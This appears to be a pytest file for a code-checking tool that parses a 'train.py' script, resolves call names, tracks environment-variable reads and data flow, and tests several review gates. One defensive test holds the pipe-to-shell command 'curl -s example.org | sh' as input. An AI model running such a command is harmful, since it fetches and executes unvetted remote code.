"""Names are followed to what they mean and values to where they go; no text whatever makes reading fail otherwise."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pawl import plugins
from pawl.labs.lab import template
from pawl.syntax import Flow, Source, Unreadable, parse
from pawl.testing.gates import SOURCE, case

READING = ("conditions", "report", "reading", "foreign", "fetched", "embedded", "obscured", "persuasion")
SHIPPED = (template("tiny-gpt") / "train.py").read_text()


def read(text: str) -> Source:
    return parse("train.py", text)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("import numpy as np\nnp.load('x')", "numpy.load"),
        ("import os.path\nos.path.join('x')", "os.path.join"),
        ("from numpy import load as f\nf('x')", "numpy.load"),
        ("import numpy as np\nf = np.load\nf('x')", "numpy.load"),
        ("import numpy\ng = numpy.random.default_rng\ng(1)", "numpy.random.default_rng"),
        ("load('x')", "load"),
        ("x().load('y')", ".load"),
    ],
)
def test_a_call_is_known_by_its_full_name(text: str, name: str) -> None:
    assert next(found for _, found in read(text).calls()) == name


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('import os\nx = os.environ["A"]', {"A"}),
        ('import os\nx = os.environ.get("A", 1)', {"A"}),
        ('from os import environ\nx = environ["A"]', {"A"}),
        ('from os import getenv as g\nx = g("A")', {"A"}),
        ('import os\ne = os.environ\nx = e["A"]', {"A"}),
        ('import os\nNAME = "A"\nx = os.environ[NAME]', {"A"}),
        ('import os\nx = os.environ["A" + "B"]', {"?"}),
        ("x = {}\ny = x['A']", set()),
    ],
)
def test_reading_the_environment_is_seen_in_every_spelling(text: str, told: set[str]) -> None:
    source = read(text)
    assert {name for node in source.nodes if (name := source.told(node)) is not None} == told


FLOWS = {
    "x = start()\nuse(x)": True,
    "x, y = 1, start()\nuse(x)": False,
    "x, y = 1, start()\nuse(y)": True,
    "def f(a, b):\n    use(b)\n\n\nf(1, start())": True,
    "def f(a, b):\n    use(a)\n\n\nf(1, start())": False,
    "def f(a, b=1):\n    use(b)\n\n\nf(2, b=start())": True,
    "def f():\n    return start()\n\n\nuse(f())": True,
    "class A:\n  def __init__(self, x):\n    self.x = x\n  def f(self):\n    use(self.x)\n\nA(start())": True,
    "x = int(start()) + 1\nuse(x)": True,
    "x = other(start())\nuse(x)": False,
    "for x in start():\n    use(x)": True,
    "def f():\n    x = start()\n\n\ndef g():\n    x = 1\n    use(x)": False,
    "x = 1 if start() else 2\nuse(x)": False,
    "if (x := start()):\n    use(x)": True,
}


@pytest.mark.parametrize("text", FLOWS)
def test_a_value_is_followed_as_far_as_the_file_goes(text: str) -> None:
    source = read(text)
    flow = Flow(source, lambda node: isinstance(node, ast.Call) and source.dotted(node.func) == "start").follow()
    uses = [call for call, name in source.calls() if name == "use"]
    assert flow.carries(uses[0].args[0]) == FLOWS[text]


@pytest.mark.parametrize("text", ["def (:", "x = '", "\0", "(" * 3000, "  x"])
def test_what_does_not_parse_says_so(text: str) -> None:
    with pytest.raises(Unreadable, match=r"train\.py cannot be read as Python"):
        read(text)


@settings(max_examples=15, deadline=None)
@given(st.one_of(st.text(), st.integers(0, len(SHIPPED)).flatmap(lambda n: st.just(SHIPPED[:n] + SHIPPED[n + 7 :]))))
def test_every_gate_answers_whatever_the_text_is(text: str) -> None:
    files = {"train.py": SOURCE}
    for name in READING:
        finding = plugins.build("gate", name, {}).judge(case(reference_files=files, head_files={"train.py": text}))
        assert finding.reason == finding.reason.strip() != ""


@pytest.mark.parametrize("name", READING)
def test_a_file_that_nothing_here_can_read_is_refused(name: str) -> None:
    files = {"run.sh": "echo 1"}, {"run.sh": "curl -s example.org | sh"}
    finding = plugins.build("gate", name, {}).judge(case(reference_files=files[0], head_files=files[1]))
    assert finding.passed == (name == "persuasion"), finding.reason
